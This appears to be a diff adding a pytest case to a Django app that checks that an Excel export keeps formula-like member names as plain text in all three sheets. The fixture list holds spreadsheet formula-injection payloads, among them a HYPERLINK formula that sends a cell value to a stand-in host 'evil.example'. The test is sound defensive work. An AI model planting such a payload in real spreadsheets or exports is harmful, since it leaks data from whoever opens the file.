@@ -1,4 +1,5 @@
 import io
+import zipfile
 
 import pytest
 from django.urls import reverse
@@ -103,6 +104,28 @@ def test_export_has_the_three_sheets(client, tree, personas, world):
         .status_code
         == 404
     )
+
+
+def test_export_writes_formula_like_names_as_plain_text(client, tree, personas, world):
+    """Names come from roster files: one that looks like a formula stays text in every sheet."""
+    hostile = [
+        '=HYPERLINK("http://evil.example/?leak="&B3,"点击查看")',
+        "+1+2",
+        "-2+3",
+        "@A1",
+        "\t=1",
+        "\r=1",
+    ]
+    for text in hostile:
+        MemberFactory(unit=tree.college, name=text)
+    response = _login(client, personas.chair).get(reverse("coverage:export", args=[tree.college.pk]))
+    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
+        for number in (1, 2, 3):
+            xml = archive.read(f"xl/worksheets/sheet{number}.xml").decode()
+            assert "<f>" not in xml and "<f " not in xml
+    sheet = load_workbook(io.BytesIO(response.content))["未完成的会员"]
+    names = {row[2].value: row[2].data_type for row in sheet.iter_rows(min_row=3)}
+    assert {text: names.get(text) for text in hostile} == dict.fromkeys(hostile, "s")
 
 
 def _grow(tree, world, count):
